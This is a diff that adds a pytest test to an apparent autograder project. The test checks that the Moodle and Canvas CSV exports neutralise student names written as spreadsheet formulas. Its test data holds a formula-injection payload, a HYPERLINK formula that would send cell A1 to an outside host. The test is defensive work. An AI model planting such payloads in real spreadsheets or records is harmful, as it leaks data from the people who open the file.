@@ -229,6 +229,28 @@ def test_a_hostile_moodle_name_still_makes_a_folder_moodle_reads(tmp_path: Path)
         assert all(".." not in n and not n.startswith("/") for n in zf.namelist())
 
 
+def test_a_name_that_is_a_formula_stays_text_in_both_lms_files(tmp_path: Path) -> None:
+    """Instructors open these CSVs in a spreadsheet: a name is never a formula there."""
+    import csv
+
+    from autograder.handback import canvas_csv, moodle
+
+    formula = '=HYPERLINK("https://example.org?"&A1,"x")'
+    html = tmp_path / f"{NB1}.html"
+    html.write_text("<p>x</p>")
+    who = roster.Student("eve", name=formula, lms_name={"moodle": formula},
+                         collected={"moodle": "5301", "canvas": "4301"}, score=1, maximum=2,
+                         feedback=[html])
+    worksheet, *_ = moodle.write(tmp_path / "out", [who], None)
+    canvas = tmp_path / "canvas.csv"
+    canvas_csv.write_import(canvas, [who], None, "Week 4", "", None)
+    for path in (worksheet, canvas):
+        with open(path, newline="") as fh:
+            cells = [cell for row in csv.reader(fh) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@"))], (path, cells)
+        assert f"'{formula}" in cells, (path, cells)
+
+
 def test_write_zip_refuses_an_unsafe_member(tmp_path: Path) -> None:
     src = tmp_path / "f.html"
     src.write_text("x")
